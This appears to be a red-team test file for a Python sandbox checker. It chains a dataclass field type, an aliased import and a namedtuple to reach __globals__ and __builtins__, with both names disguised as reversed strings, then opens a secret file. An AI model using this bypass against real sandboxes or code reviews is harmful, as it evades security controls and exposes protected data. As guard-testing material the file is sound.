# family: red team, round 20 (classes reaching parameters unnoticed; allow-list guards)
# Chain: objects._class_channels counts dataclasses' Field.type as a class channel only when the name
# "fields" or "dataclasses" was imported; `import dataclasses as dc` binds "dc", so dc.fields(Slot())[0].type
# hands out the class Reader unnoticed. self in Reader.fetch stays trusted (own_object), and k.fetch(box, fn)
# calls it with a namedtuple whose FIELDS (the "class constant" table) is a run-time ["__globals__"].
import dataclasses as dc
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


@dc.dataclass
class Slot:
    r: Reader = None


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    k = dc.fields(Slot())[0].type
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(k, box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r20/work/secret.txt").read())


run()
